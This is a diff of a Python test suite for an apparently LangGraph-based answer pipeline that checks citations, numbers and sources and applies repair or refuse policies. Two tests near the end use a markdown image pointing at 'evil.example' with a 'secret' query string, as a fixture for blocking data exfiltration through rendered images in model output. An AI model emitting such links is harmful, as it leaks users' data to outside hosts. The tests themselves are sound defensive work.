@@ -28,7 +28,8 @@ def kinds(result) -> list[str]:
     return [flag["kind"] for flag in result["support"]["flags"]]
 
 
-async def test_v1_labels_are_renumbered_alike_in_answer_citations_and_provenance() -> None:
+@pytest.mark.covers("V1")
+async def test_labels_are_renumbered_alike_in_answer_citations_and_provenance() -> None:
     saver, store = InMemorySaver(), InMemoryStore()
     graph, model = build(RIGHT, checkpointer=saver, store=store)
     result = await graph.ainvoke(ask(), thread())
@@ -46,8 +47,9 @@ async def test_v1_labels_are_renumbered_alike_in_answer_citations_and_provenance
     json.dumps(result["provenance"])
 
 
+@pytest.mark.covers("S1", "S4")
 @pytest.mark.parametrize("style", ["hybrid", "structured"])
-async def test_s1_s4_every_style_numbers_by_first_use_and_the_listing_agrees(style) -> None:
+async def test_every_style_numbers_by_first_use_and_the_listing_agrees(style) -> None:
     result = await build("Client credentials [2].", style)[0].ainvoke(ask())
     texts = {row["label"]: row["source_name"] for row in result["provenance"]["results"]}
     cited = {one["label"]: one["source_name"] for one in result["citations"]}
@@ -63,7 +65,8 @@ async def test_s1_s4_every_style_numbers_by_first_use_and_the_listing_agrees(sty
         assert texts == {1: "notes", 2: "docs"}
 
 
-async def test_s7_quotes_first_is_numbered_by_first_use() -> None:
+@pytest.mark.covers("S7")
+async def test_quotes_first_is_numbered_by_first_use() -> None:
     sources = [
         InMemorySource(["OAuth is old and has a history of names.", "Grant types of OAuth: four types."], name="d")
     ]
@@ -77,7 +80,7 @@ async def test_s7_quotes_first_is_numbered_by_first_use() -> None:
 
 
 @pytest.mark.parametrize("policy", ["annotate", "repair", "refuse"])
-async def test_decision_5_tokens_stream_only_when_nothing_can_hold_the_answer(policy) -> None:
+async def test_tokens_stream_only_when_nothing_can_hold_the_answer(policy) -> None:
     graph, _ = build(Reply(chunks=[word + " " for word in RIGHT.split()]), policies={"numbers": policy})
     pieces, before, events = [], [], []
     async for mode, item in graph.astream(ask(), stream_mode=["messages", "custom"]):
@@ -91,8 +94,9 @@ async def test_decision_5_tokens_stream_only_when_nothing_can_hold_the_answer(po
     assert ("answer_released" in before) is (policy != "annotate")
 
 
+@pytest.mark.covers("V1")
 @pytest.mark.parametrize("style", ["conversational", "hybrid"])
-async def test_v1_repair_is_one_call_that_is_told_what_failed(style) -> None:
+async def test_repair_is_one_call_that_is_told_what_failed(style) -> None:
     graph, model = build([WRONG, RIGHT], style, {"numbers": "repair"})
     result = await graph.ainvoke(ask())
     assert len(model.calls) == 2
@@ -105,7 +109,8 @@ async def test_v1_repair_is_one_call_that_is_told_what_failed(style) -> None:
     assert {one["label"]: one["source_name"] for one in result["citations"]} == {1: "notes", 2: "docs"}
 
 
-async def test_v1_what_a_repair_leaves_is_annotated_and_not_repaired_again() -> None:
+@pytest.mark.covers("V1")
+async def test_what_a_repair_leaves_is_annotated_and_not_repaired_again() -> None:
     graph, model = build([WRONG, WRONG], policies={"numbers": "repair"})
     result = await graph.ainvoke(ask())
     assert len(model.calls) == 2
@@ -126,11 +131,12 @@ async def test_an_answer_without_findings_is_not_repaired() -> None:
     assert len(model.calls) == 1
 
 
+@pytest.mark.covers("V1")
 @pytest.mark.parametrize(
     ("question", "says"),
     [("Which grant types does OAuth have?", "withheld"), ("Какие типы grant у OAuth?", "не показан")],
 )
-async def test_v1_refuse_replaces_the_answer_and_keeps_the_flags(question, says) -> None:
+async def test_refuse_replaces_the_answer_and_keeps_the_flags(question, says) -> None:
     graph, _ = build(WRONG, policies={"numbers": "refuse"}, checkpointer=InMemorySaver())
     pieces = [chunk.text async for chunk, _ in graph.astream(ask(question), thread(), stream_mode="messages")]
     result = await graph.ainvoke(ask(question), thread("other"))
@@ -140,6 +146,7 @@ async def test_v1_refuse_replaces_the_answer_and_keeps_the_flags(question, says)
     assert "number_unsupported" in kinds(result)
 
 
+@pytest.mark.covers("T5")
 @pytest.mark.parametrize(
     ("policies", "extra"),
     [
@@ -149,7 +156,7 @@ async def test_v1_refuse_replaces_the_answer_and_keeps_the_flags(question, says)
         ({"names": "refuse", "labels": "repair"}, {"refuse_answer", "repair_answer"}),
     ],
 )
-def test_t5_the_graph_holds_only_the_steps_that_a_policy_asks_for(policies, extra) -> None:
+def test_the_graph_holds_only_the_steps_that_a_policy_asks_for(policies, extra) -> None:
     nodes = set(build("x", policies=policies)[0].get_graph().nodes)
     assert nodes & {"refuse_answer", "repair_answer"} == extra
 
@@ -160,20 +167,22 @@ def test_a_repair_without_a_model_is_refused_when_the_graph_is_built() -> None:
         turn_graph(settings, sources=[docs()])
 
 
+@pytest.mark.covers("U6")
 @pytest.mark.parametrize("value", ["refuse", "off", False, None])
-def test_u6_every_policy_of_every_check_loads(value) -> None:
+def test_every_policy_of_every_check_loads(value) -> None:
     names = ("labels", "quotes", "numbers", "names", "uncited", "support", "links")
     loaded = load_settings({"citation_check": dict.fromkeys(names, value)}).citation_check
     assert set(loaded.model_dump().values()) == {value or "off"}
 
 
-def test_u6_an_unknown_policy_is_an_error() -> None:
+@pytest.mark.covers("U6")
+def test_an_unknown_policy_is_an_error() -> None:
     with pytest.raises(ConfigurationError, match=r"citation_check\.numbers"):
         load_settings({"citation_check": {"numbers": "maybe"}})
 
 
 @pytest.mark.covers("fault 57", "F8")
-async def test_fault_57_an_image_to_an_outside_host_is_never_streamed() -> None:
+async def test_an_image_to_an_outside_host_is_never_streamed() -> None:
     reply = Reply(chunks=["OAuth has four grant types [1] ![x](ht", "tps://evil.example/?q=", "secret) and more."])
     graph, _ = build(reply, checkpointer=InMemorySaver())
     pieces = [chunk.text async for chunk, _ in graph.astream(ask(), thread(), stream_mode="messages")]
@@ -187,13 +196,15 @@ async def test_fault_57_an_image_to_an_outside_host_is_never_streamed() -> None:
     assert any("do not lead to the evidence" in note for note in result["notes"])
 
 
-async def test_fault_57_an_image_in_the_evidence_is_shown_as_text() -> None:
+@pytest.mark.covers("fault 57")
+async def test_an_image_in_the_evidence_is_shown_as_text() -> None:
     sources = [InMemorySource(["OAuth grant types ![x](https://evil.example/p.png) are four types."], name="d")]
     result = await build("", "structured", sources=sources)[0].ainvoke(ask())
     assert "![" not in result["answer"]
 
 
-async def test_fault_27_28_findings_are_in_the_output_with_their_sentence() -> None:
+@pytest.mark.covers("fault 27", "fault 28")
+async def test_findings_are_in_the_output_with_their_sentence() -> None:
     text = 'The source says "OAuth has five grant types" [1]. It names 17 clients [2].'
     result = await build(text)[0].ainvoke(ask())
     found = {flag["kind"]: flag for flag in result["support"]["flags"]}
@@ -202,7 +213,8 @@ async def test_fault_27_28_findings_are_in_the_output_with_their_sentence() -> N
     assert result["provenance"]["citation_check"]["flags"] == result["support"]["flags"]
 
 
-async def test_s3_general_knowledge_is_marked_and_not_a_fault() -> None:
+@pytest.mark.covers("S3")
+async def test_general_knowledge_is_marked_and_not_a_fault() -> None:
     text = "OAuth has four grant types [1]. General knowledge: Kerberos was made at MIT in 1983."
     settings = {"intent": {"mode": "static"}, "synthesis": {"allow_parametric": True}}
     graph = turn_graph(load_settings(settings), sources=[docs()], chat_model=ScriptedChatModel(text))
@@ -211,8 +223,9 @@ async def test_s3_general_knowledge_is_marked_and_not_a_fault() -> None:
     assert "uncited" in kinds(await strict.ainvoke(ask()))
 
 
+@pytest.mark.covers("T3")
 @pytest.mark.parametrize("policies", [{"numbers": "repair"}, {"numbers": "refuse"}])
-async def test_t3_a_turn_with_policies_replays_from_every_step(policies) -> None:
+async def test_a_turn_with_policies_replays_from_every_step(policies) -> None:
     graph, _ = build([WRONG, *[RIGHT] * 20], policies=policies, checkpointer=InMemorySaver(), store=InMemoryStore())
     first = await graph.ainvoke(ask(), thread(), durability="sync")
     for snapshot in [one async for one in graph.aget_state_history(thread())]:
